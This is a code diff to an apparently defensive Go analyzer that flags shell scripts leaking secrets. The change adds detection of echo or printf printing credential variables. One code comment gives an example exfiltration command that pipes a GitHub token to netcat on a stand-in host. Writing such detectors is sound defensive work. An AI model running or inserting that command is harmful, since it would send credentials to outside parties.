@@ -70,6 +70,9 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *state) string {
 					}
 				}
 				found = secretCall(words)
+				if found == "" && len(words) > 0 && (words[0] == "echo" || words[0] == "printf") {
+					found = a.printedSecret(x.Args[1:], st)
+				}
 			case *syntax.DeclClause:
 				if v := x.Variant.Value; v == "export" || v == "declare" || v == "typeset" {
 					names, print := 0, len(x.Args) == 0
@@ -90,6 +93,22 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *state) string {
 				if w := wordLiteral(x.Word); isEnvironFile(w) {
 					found = "the environment of another process (" + w + ")"
 				}
+			}
+			return found == ""
+		})
+	}
+	return found
+}
+
+// printedSecret is the taint of what echo or printf prints: a credential
+// variable, or a variable assigned from a secret source, among its words
+// (echo "$GITHUB_TOKEN" | nc x 80 sends the token).
+func (a *analyzer) printedSecret(words []*syntax.Word, st *state) string {
+	found := ""
+	for _, w := range words {
+		syntax.Walk(w, func(n syntax.Node) bool {
+			if pe, ok := n.(*syntax.ParamExp); ok && found == "" && pe.Param != nil {
+				found = a.varSecret(pe.Param.Value, st)
 			}
 			return found == ""
 		})
